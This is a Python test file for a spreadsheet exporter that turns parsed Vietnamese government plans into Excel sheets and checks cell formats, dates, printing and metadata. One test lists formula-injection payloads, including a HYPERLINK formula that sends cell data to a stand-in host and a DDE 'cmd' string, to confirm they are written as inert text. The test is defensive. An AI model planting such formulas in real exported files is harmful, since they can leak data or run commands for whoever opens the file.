"""The spreadsheet: text stays text, numbers are numbers, dates are dates, nothing names a person."""

import zipfile
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from phoihop.engines.reading.contract import of_reading, of_refusal
from phoihop.engines.reading.model import (
    Basis,
    Citation,
    Comparator,
    Direction,
    Document,
    Extract,
    Finding,
    Reading,
    Severity,
    Signer,
    Target,
    TargetKind,
    Task,
)
from phoihop.engines.reading.sheet import Lang, sentence, to_xlsx
from phoihop.kernel.refusals import Bilingual, Refusal

TEXT = (
    "Số: 41/KH-UBND\nMục tiêu: có 1.209 hộ ký cam kết; bảo đảm 41,13% diện tích rừng được tuần tra. "
    "Sở Nông nghiệp chủ trì.\nTheo Quyết định số 99/QĐ-TTg."
)


def span(phrase: str) -> tuple[int, int]:
    return TEXT.index(phrase), TEXT.index(phrase) + len(phrase)


def target(phrase: str, value: str | None, unit: str, **more: Any) -> Target:
    fields: dict[str, Any] = {
        "text": phrase,
        "span": span(phrase),
        "value_span": span(phrase),
        "value_max": None,
    }
    words = dict.fromkeys(("numerator", "denominator", "scope", "baseline", "deadline"))
    return Target(
        **fields | words | more,
        comparator=Comparator.AT_LEAST,
        value=None if value is None else Decimal(value),
        unit=unit,
        direction=Direction.KEEP,
        kind=TargetKind.GOAL,
        confidence=0.85,
    )


def reading(**changes: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "span": (0, len(TEXT)),
        "number": "41/KH-UBND",
        "issued": date(2024, 3, 15),
        "issuer": "Ủy ban nhân dân tỉnh Phìn Sơn",
        "signers": (Signer("Vàng Thị Thử Nghiệm", "Phó Chủ tịch", "KT.", (0, 3)),),
        "recipients": ("Như trên", "Lưu: VT"),
        "targets": (target("1.209 hộ", "1209", "hộ"), target("41,13% diện tích", "41.13", "%")),
        "tasks": (
            Task(
                "Sở Nông nghiệp chủ trì",
                span("Sở Nông nghiệp chủ trì"),
                ("Sở Nông nghiệp",),
                ("Đài A", "Đài B"),
                "Quý II",
                None,
                (0,),
                Basis.EXPLICIT,
                True,
                0.9,
            ),
        ),
        "citations": (
            Citation(
                "quyết định",
                "99/QĐ-TTg",
                date(2023, 1, 2),
                None,
                None,
                (span("Quyết định số 99/QĐ-TTg"),),
                dates=(date(2023, 1, 2), date(2023, 2, 1)),
            ),
        ),
        "findings": (
            Finding(
                "two-dates",
                Severity.SERIOUS,
                Bilingual("Một số, hai ngày", "One number, two dates"),
                (span("99/QĐ-TTg"),),
            ),
        ),
    }
    return of_reading(Reading("ke-hoach.txt", Extract(TEXT, "txt"), (Document(**fields | changes),)))


def book(contract: dict[str, Any], lang: Lang = "vi") -> Any:
    return load_workbook(BytesIO(to_xlsx(contract, lang)))


def cell(sheet: Any, heading: str, row: int = 2) -> Any:
    """The cell of a data row under a heading."""
    headings = [c.value for c in sheet[1]]
    return sheet.cell(row, headings.index(heading) + 1)


def value_of(found: Any) -> Any:
    """A cell's value, a day as a date: openpyxl reads one as midnight."""
    return found.value.date() if isinstance(found.value, datetime) else found.value


@pytest.mark.parametrize(
    ("lang", "names"),
    [
        ("vi", ["Văn bản", "Chỉ tiêu", "Nhiệm vụ", "Trích dẫn", "Phát hiện"]),
        ("en", ["Documents", "Targets", "Tasks", "Citations", "Findings"]),
    ],
)
def test_the_sheets_are_named_in_the_reader_s_language(lang, names):
    assert book(reading(), lang).sheetnames == names


@pytest.mark.parametrize(
    ("sheet", "heading", "row", "value", "shown_as"),
    [
        ("Chỉ tiêu", "Giá trị", 2, 1209, "[$-42A]#,##0"),
        ("Chỉ tiêu", "Giá trị", 3, 41.13, "[$-42A]#,##0.00"),
        ("Chỉ tiêu", "So sánh", 2, "≥", "@"),
        ("Chỉ tiêu", "Chiều", 2, "giữ", "@"),
        ("Chỉ tiêu", "Văn bản", 2, "41/KH-UBND", "@"),
        ("Chỉ tiêu", "Câu nguồn", 3, "bảo đảm 41,13% diện tích rừng được tuần tra.", "@"),
        ("Văn bản", "Ngày ban hành", 2, date(2024, 3, 15), "dd/mm/yyyy"),
        ("Văn bản", "Chức vụ", 2, "KT. Phó Chủ tịch", "@"),
        ("Văn bản", "Nơi nhận", 2, "Như trên; Lưu: VT", "@"),
        ("Văn bản", "Số chỉ tiêu", 2, 2, "[$-42A]#,##0"),
        ("Nhiệm vụ", "Chủ trì", 2, "Sở Nông nghiệp", "@"),
        ("Nhiệm vụ", "Phối hợp", 2, "Đài A; Đài B", "@"),
        ("Nhiệm vụ", "Chỉ tiêu kèm theo (STT)", 2, "1", "@"),
        ("Nhiệm vụ", "Thường xuyên", 2, "có", "@"),
        ("Trích dẫn", "Ngày", 2, date(2023, 1, 2), "dd/mm/yyyy"),
        ("Trích dẫn", "Ngày khác được ghi", 2, "01/02/2023", "@"),
        ("Phát hiện", "Mức độ", 2, "nghiêm trọng", "@"),
        ("Phát hiện", "Nội dung", 2, "Một số, hai ngày", "@"),
        ("Phát hiện", "Câu nguồn", 2, "Theo Quyết định số 99/QĐ-TTg.", "@"),
    ],
)
def test_cells(sheet, heading, row, value, shown_as):
    found = cell(book(reading())[sheet], heading, row)
    assert (value_of(found), found.number_format) == (value, shown_as)


def test_english_words():
    sheet = book(reading(), "en")["Findings"]
    assert (cell(sheet, "Severity").value, cell(sheet, "Message").value) == (
        "serious",
        "One number, two dates",
    )


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("http://e.example/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(A1)",
        "＝1+1",
        "\t=1+1",
        "{=1+1}",
        "http://e.example/",
        "1209",
        "'=1+1",
        "_x003D_1",
    ],
)
def test_hostile_text_is_only_text(hostile):
    contract = reading(title=hostile, place=hostile, parent_issuer=hostile)
    contract["documents"][0]["signers"][0]["name"] = hostile
    data = to_xlsx(contract)
    sheet = load_workbook(BytesIO(data))["Văn bản"]
    for heading in ("Trích yếu", "Nơi ban hành", "Người ký"):
        found = cell(sheet, heading)
        # openpyxl itself calls any string with a leading "=" a formula, so the file is asked too.
        assert found.value == hostile
        assert found.hyperlink is None
    with zipfile.ZipFile(BytesIO(data)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name), name
            assert b"<hyperlink" not in archive.read(name), name


def test_a_target_without_a_figure_has_an_empty_cell():
    contract = reading(targets=(target("1.209 hộ", None, "hộ"),), tasks=())
    assert cell(book(contract)["Chỉ tiêu"], "Giá trị").value is None


@pytest.mark.parametrize(
    ("day", "shown"), [(date(1899, 12, 31), "31/12/1899"), (date(1900, 3, 1), date(1900, 3, 1))]
)
def test_days_before_excel_s_calendar_are_written_out(day, shown):
    assert value_of(cell(book(reading(issued=day))["Văn bản"], "Ngày ban hành")) == shown


def test_every_sheet_prints_on_a4_with_its_headings():
    for sheet in book(reading()):
        assert sheet.freeze_panes == "A2"
        assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")
        assert (sheet.page_setup.fitToWidth or 1, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.print_title_rows == "$1:$1"
        assert all(c.alignment.wrap_text for c in sheet[1])
        assert sheet.column_dimensions["C"].width > 5


def test_the_file_names_nobody_and_hides_nothing():
    workbook = book(reading())
    assert (workbook.properties.creator or "", workbook.properties.lastModifiedBy or "") == ("", "")
    assert all(sheet.sheet_state == "visible" for sheet in workbook)
    assert to_xlsx(reading()) == to_xlsx(reading())


def test_a_refused_file_gives_headings_only():
    refused = of_refusal("a.pdf", Refusal("empty", "Tệp rỗng", "The file is empty"))
    assert [sheet.max_row for sheet in book(refused)] == [1] * 5


@pytest.mark.parametrize(
    ("text", "phrase", "expected"),
    [
        ("Câu một. Có 1.209 hộ. Câu ba.", "1.209", "Có 1.209 hộ."),
        ("Một; hai 5% việc; ba", "5%", "hai 5% việc;"),
        ("Đầu đề\nđạt 90%\ndiện tích rừng\nDòng khác", "90%", "Đầu đề đạt 90% diện tích rừng"),
        ("Trên\n\nđạt 90%\n\ndưới", "90%", "đạt 90%"),
        ("a) Một việc\nb) Hai 7 việc", "7", "b) Hai 7 việc"),
    ],
)
def test_sentence(text, phrase, expected):
    start = text.index(phrase)
    assert sentence(text, [start, start + len(phrase)]) == expected


@settings(max_examples=60, deadline=None)
@given(
    title=st.text(max_size=60),
    span=st.tuples(st.integers(0, 200), st.integers(0, 200)).map(sorted),
    value=st.none() | st.decimals(allow_nan=False, allow_infinity=False, max_value=10**20, min_value=0),
)
def test_any_text_and_number_can_be_written(title, span, value):
    contract = reading(title=title)
    contract["documents"][0]["targets"][0] |= {"text": title, "span": span}
    contract["documents"][0]["targets"][0] |= {
        "value": None if value is None else 1,
        "value_exact": str(value),
    }
    sheet = book(contract)["Chỉ tiêu"]
    found = cell(sheet, "Giá trị").value
    assert found is None if value is None else Decimal(str(found)) == value
